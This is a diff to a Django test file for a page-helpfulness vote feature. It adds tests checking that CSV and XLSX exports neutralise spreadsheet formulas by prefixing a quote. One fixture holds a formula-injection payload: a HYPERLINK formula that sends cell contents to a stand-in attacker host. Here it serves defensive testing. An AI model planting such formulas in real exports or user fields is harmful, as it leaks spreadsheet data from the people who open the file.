@@ -1,10 +1,15 @@
 """“Was this page helpful?”: one changeable answer per person and page; editors' report."""
 
+import codecs
+import io
+
 import pytest
 from django.db import IntegrityError, transaction
 from django.test import Client
 from django.urls import reverse
+from openpyxl import load_workbook
 
+from tests.polls_admin import body
 from tests.utils import add_page, make_user, set_policy
 from wagtail_social.models import HelpfulVote
 
@@ -98,9 +103,11 @@ class TestReport:
     def test_csv_export(self, client_for, editor, faq, answers):
         response = client_for(editor).get(REPORT, {"export": "csv"})
         body = (
-            b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
+            b"".join(response.streaming_content).decode("utf-8-sig")
+            if response.streaming
+            else response.content.decode("utf-8-sig")
         )
-        assert "FAQ mutuelle,3,1,75,2" in body
+        assert "FAQ mutuelle;3;1;75;2" in body
 
     def test_xlsx_export(self, client_for, editor, faq, answers):
         response = client_for(editor).get(COMMENTS, {"export": "xlsx"})
@@ -111,3 +118,44 @@ class TestReport:
         response = client_for(employee).get(REPORT)
         assert response.status_code in (302, 403)
         assert b"FAQ mutuelle" not in response.content
+
+
+class TestExportsNeutraliseFormulas:
+    """A reader's comment, or a page title, that a spreadsheet would run as a formula is written
+    with a quote in front; figures stay numbers; the CSV opens in French Excel."""
+
+    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    @pytest.fixture
+    def page(self, section):
+        set_policy(section, comments_enabled=False, helpful_enabled=True)
+        page = add_page(section, "@Tarifs 2027", slug="tarifs")
+        HelpfulVote.objects.create(user=make_user("reader0"), page=page, helpful=False, comment=self.FORMULA)
+        HelpfulVote.objects.create(user=make_user("reader1"), page=page, helpful=True, comment="-1 for me")
+        return page
+
+    def test_comments_csv(self, client_for, editor, page):
+        data = body(client_for(editor).get(COMMENTS, {"export": "csv"}))
+        assert data.startswith(codecs.BOM_UTF8)
+        lines = data.decode("utf-8-sig").splitlines()
+        assert lines[0] == "Page;Answer;Comment;Date"
+        assert lines[1].startswith("'@Tarifs 2027;Yes;'-1 for me;")
+        assert lines[2].startswith(
+            '\'@Tarifs 2027;No;"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";'
+        )
+
+    def test_comments_xlsx(self, client_for, editor, page):
+        data = body(client_for(editor).get(COMMENTS, {"export": "xlsx"}))
+        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
+        assert [row[:3] for row in rows[1:]] == [
+            ("'@Tarifs 2027", "Yes", "'-1 for me"),
+            ("'@Tarifs 2027", "No", "'" + self.FORMULA),
+        ]
+
+    def test_helpfulness_csv_and_xlsx(self, client_for, editor, page):
+        client = client_for(editor)
+        text = body(client.get(REPORT, {"export": "csv"})).decode("utf-8-sig")
+        assert "'@Tarifs 2027;1;1;50;2" in text.splitlines()
+        data = body(client.get(REPORT, {"export": "xlsx"}))
+        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
+        assert ("'@Tarifs 2027", 1, 1, 50, 2) in rows
